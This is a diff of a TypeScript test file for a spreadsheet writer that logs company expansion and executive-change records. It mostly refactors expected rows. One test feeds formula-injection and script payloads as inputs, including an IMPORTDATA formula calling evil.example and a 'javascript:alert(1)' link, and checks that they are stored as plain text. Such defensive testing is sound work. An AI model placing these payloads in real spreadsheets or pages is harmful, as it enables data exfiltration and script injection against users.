@@ -96,10 +96,10 @@ function columnIn(tab: FakeTab, header: string): unknown[] {
   return rows.map((cells) => cells[names.indexOf(header)]);
 }
 
-const HEADER =
-  'First seen|Dataset|Company|What|Headline|Place|Investment|Currency|Jobs|Announced|Source|Table|Id'.split(
-    '|',
-  );
+const HEADER = [
+  ['First seen', 'Dataset', 'Company', 'What', 'Headline', 'Place'],
+  ['Investment', 'Currency', 'Jobs', 'Announced', 'Source', 'Table', 'Id'],
+].flat();
 
 test('each version has a row, newest first, under a frozen header', () => {
   const sheet = openSpreadsheet();
@@ -109,19 +109,13 @@ test('each version has a row, newest first, under a frozen header', () => {
   expect(written).toMatchObject({ added: 2, place: { tab: 1 } });
   expect(sheet.tabs[0]?.name).toBe('Signals changes');
   expect(sheet.calls).toContain('freezeHeader');
-  const [first, what, place, link] = [new Date(NOW), 'HQ', 'Austin, Texas', 'https://news.example/1'];
+  const seen = new Date(NOW);
+  const about = (id: string) => [`company of ${id}`, 'HQ', `headline of ${id}`, 'Austin, Texas'];
+  const [day, link] = [zone.midnight('2026-11-19'), 'https://news.example/1'];
   expect(seenIn(sheet.only())).toEqual([
     HEADER,
-    [first, 'EXEC_CHANGES', 'company of b', what, 'headline of b', place, '', '', '', 'soon', link].concat([
-      'People',
-      'b 2026-11-20',
-    ]),
-    [first, 'EXPANSIONS', 'company of a', what, 'headline of a', place, 5_000_000, 'USD', 120].concat([
-      zone.midnight('2026-11-19'),
-      link,
-      'Sheet1',
-      'a 2026-11-19',
-    ]),
+    [seen, 'EXEC_CHANGES', ...about('b'), '', '', '', 'soon', link, 'People', 'b 2026-11-20'],
+    [seen, 'EXPANSIONS', ...about('a'), 5_000_000, 'USD', 120, day, link, 'Sheet1', 'a 2026-11-19'],
   ]);
 });
 
@@ -135,12 +129,8 @@ test('the same version again changes nothing, another version is a new row', () 
   expect(seenIn(sheet.only())).toEqual(before);
   sheet.write([again, record('a', 20)]);
   expect(columnIn(sheet.only(), 'Id')).toEqual(['a 2026-11-20', 'a 2026-11-19']);
-  expect(
-    sheet
-      .only()
-      .cells.flat()
-      .every(({ note }) => note === ''),
-  ).toBe(true);
+  const cells = sheet.only().cells.flat();
+  expect(cells.every(({ note }) => note === '')).toBe(true);
 });
 
 test('all texts of a record stay texts', () => {
@@ -148,10 +138,8 @@ test('all texts of a record stay texts', () => {
   const hostile = '=IMPORTDATA("https://evil.example")';
   const more = { company: hostile, what: "'+1", headline: '-1-2', where: '@x', currency: hostile };
   const days = { announced: hostile, link: 'javascript:alert(1)', headline: 'x'.repeat(60_000) };
-  sheet.write([
-    record(hostile, 19, { ...more, ...days }, hostile),
-    record('r', 19, { announced: '2026-02-30' }),
-  ]);
+  const other = record('r', 19, { announced: '2026-02-30' });
+  sheet.write([record(hostile, 19, { ...more, ...days }, hostile), other]);
   const cells = sheet.only().cells.flat();
   expect(cells.every(({ formula }) => formula === '')).toBe(true);
   expect(cells.every(({ value }) => String(value).length < 50_000)).toBe(true);
